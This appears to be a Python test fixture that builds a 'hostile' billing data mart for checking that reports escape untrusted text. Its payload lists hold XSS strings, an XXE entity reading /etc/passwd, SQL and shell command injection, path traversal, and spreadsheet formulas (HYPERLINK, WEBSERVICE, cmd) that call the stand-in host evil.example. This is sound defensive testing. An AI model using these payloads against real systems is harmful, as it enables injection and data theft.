"""A hundred names that a billing system may hold or an attacker may choose, and a mart that is full of them.

`PAYLOADS` go wherever a report carries text that came with the data or the query: ids, names, tags,
companies, owners, the role, the source's name and the query itself. `window.pwned` and a file `pwned` tell
that one of them ran; `HOST` must never be asked for anything.
"""

from __future__ import annotations

import re
import unicodedata

from tests import oracle

HOST = "evil.example"

MARKUP = (
    "<script>window.pwned = 1</script>",
    "</script><script>window.pwned = 2</script>",
    "<img src=x onerror=window.pwned=3>",
    "<svg onload=window.pwned=4>",
    "</svg><script>window.pwned = 5</script>",
    f"</title><img src=https://{HOST}/title.png>",
    f"</style><link rel=stylesheet href=//{HOST}/x.css>",
    "</table></div></main><h1>Total 1,000,000</h1>",
    "--><script>window.pwned = 6</script><!--",
    "]]><script>window.pwned = 7</script><![CDATA[",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    f"<iframe src=https://{HOST}/frame></iframe>",
    f"<base href=https://{HOST}/>",
    f'<meta http-equiv=refresh content="0;url=https://{HOST}/">',
    f"<object data=https://{HOST}/o></object><embed src=//{HOST}/e>",
    f"<form action=https://{HOST}/><button autofocus onfocus=window.pwned=8>Go</button></form>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='window.pwned=9'/></foreignObject>",
    f"<use href=https://{HOST}/u.svg#x /><image href=https://{HOST}/i.png />",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned=1&gt;'>",
    f"<style>@import url(https://{HOST}/x.css);*{{background:url(//{HOST}/b.png)}}</style>",
    '"><script>window.pwned = 10</script>',
    "' onmouseover='window.pwned=11' x='",
    '" autofocus onfocus="window.pwned=12',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;window.pwned=13&#60;/script&#62;",
    "<a href=javascript:window.pwned=14>x</a>",
    "javascript:window.pwned=15//",
    "data:text/html,<script>alert(1)</script>",
    f"https://{HOST}/plain-link",
    f"url(https://{HOST}/u)",
    "<SCRIPT\x0b>window.pwned = 16</SCRIPT\x0b>",
    "<\x00script>window.pwned = 17</script>",
)
TEMPLATES = (
    "{{ 7 * 7 }}{{ report.info }}",
    "{% for x in y %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%s%n%(name)s{0}{report}",
    "[x](javascript:window.pwned=18)",
    f"![x](https://{HOST}/markdown.png)",
    "$\\href{javascript:window.pwned=19}{x}$ \\(\\require{html}\\)",
    "from $5 to $10",
    "# heading\n* list\n\n    code",
    '"""\nimport os; os.environ["PWNED"] = "1"\n"""',
    "'; DROP TABLE clients; --",
    "$(touch pwned) `touch pwned` | touch pwned; touch pwned &",
    "../../../etc/passwd",
    "..\\..\\CON.txt",
    "datum.label + event('x')",
)
FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    f'=HYPERLINK("https://{HOST}/?"&A1,"Total")',
    f'=WEBSERVICE("https://{HOST}/")',
    "+1+1",
    "-1+1",
    "-2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1f@SUM(1)",
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    "_x003D_1+1",
    "_x0041_ and _xD800_",
    "#REF!",
    "1e5",
    "007",
    "2021-10",
    "TRUE",
)
QUOTES = (
    'quo"te, comma; semicolon',
    "\"'`\\",
    '"',
    '""",""',
    "a,b\r\nc,d",
    "line\nfeed",
    "carriage\rreturn",
    "tab\tbed",
    "vertical\x0btab and form\x0cfeed",
    "line\u2028paragraph\u2029next\u0085line",
)
CHARACTERS = (
    "\x01\x02\x03 control \x7f\x80\x9f",
    "bell \x07 backspace \x08\x08\x08 escape \x1b[2J\x1b]0;title\x07",
    "\u202egnp.exe\u202c right to left",
    "\u2066isolate\u2069 \u200e\u200f\u061c marks",
    "مرحبا العالم 123",
    "zero\u200bwidth\u200djoiner\u2060 and soft\u00adhyphen",
    "\ufffe not a character \uffff",
    "\ufdd0\ufdef\U0001fffe\U0010ffff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family \U0001f1e9\U0001f1ea",
    "Z" + "\u0300\u0301\u0302\u0303\u0489" * 40,
    "private \ue000\U000f0000 use, tag \U000e0041",
    "Ａ＝１＋１",
    "Total",
    "(no package)",
)
SURROGATES = ("\ud800 lone", "lone \udfff end", "\udc80 byte")
LONG = "x" * 40_000
PAYLOADS = (*MARKUP, *TEMPLATES, *FORMULAS, *QUOTES, *CHARACTERS, *SURROGATES[:1], LONG)
IN_FILES = tuple(text for text in PAYLOADS if text not in SURROGATES)  # UTF-8 holds no lone surrogate
ROLE = " | ".join(text for text in PAYLOADS if text != LONG)
FOLDER = (
    "<img src=x onerror=window.pwned=20> '\"=1+1 `touch pwned`$(touch pwned) \n\r\t\x1b[2J\u202e;&|{{7*7}}"
)
AS_OF = "2021-04-01T00:00:00Z"


def hostile_mart(names: tuple[str, ...]) -> oracle.Mart:
    """Return a mart where client, company, owner, tag, transaction and package i all have the i-th name.

    A package's id is another name than its name, so that both kinds are seen. Each client has a fee of its
    own package in January 2021, a refill in February and usage in March, all different amounts.
    """
    clients = [
        {
            "client_id": name,
            "name": name,
            "client_type": "client",
            "company": name,
            "owner_user": name,
            "tags": tag(name),
            "currency": "USD",
            "created_at": "2021-01-01T00:00:00Z",
        }
        for name in names
    ]
    transactions = []
    for i, name in enumerate(names):
        package = names[i - 1]
        for month, kind, amount in (
            (1, "package_renewal", -i - 2),
            (2, "refill", 1000 + i),
            (3, "usage", -1),
        ):
            transactions.append({
                "transaction_id": f"{month} {name}",
                "client_id": name,
                "at": f"2021-{month:02}-10T00:00:00Z",
                "kind": kind,
                "amount": f"{amount}.25",
                "package_id": package if kind == "package_renewal" else None,
            })  # fmt: skip
    return {
        "clients": clients,
        "transactions": transactions,
        "packages": [{"package_id": names[i - 1], "name": name} for i, name in enumerate(names)],
        "companies": [
            {"company": name, "parent": names[i - 1] if i else None} for i, name in enumerate(names)
        ],
    }


def asked_of(names: tuple[str, ...]) -> dict[str, object]:
    """Return a query that names every one of them in every filter, and so keeps every client."""
    return {
        "interval": {"start": "2021-01-01", "end": "2021-03-31"},
        "group_by": ["package"],
        "client_tags": [tag(name) for name in names],
        "company": [*names],
        "owner_user": [*names],
        "package": [*names],
    }


def tag(name: str) -> str:
    """Return a name as a tag: in CSV a semicolon parts tags, and blanks around one fall away."""
    return name.replace(";", ",").strip()


def as_shown(text: str) -> str:
    """Return a text as every page shows it: on one line, what cannot be shown as U+FFFD."""
    one_line = re.sub("[\t\n\r\u2028\u2029]+", " ", text)
    return "".join("\ufffd" if _unfit(c) else c for c in one_line)


def _unfit(c: str) -> bool:
    noncharacter = ord(c) & 0xFFFE == 0xFFFE or "\ufdd0" <= c <= "\ufdef"
    turns = unicodedata.bidirectional(c) in ("LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI")
    return noncharacter or turns or unicodedata.category(c) in ("Cc", "Cs")
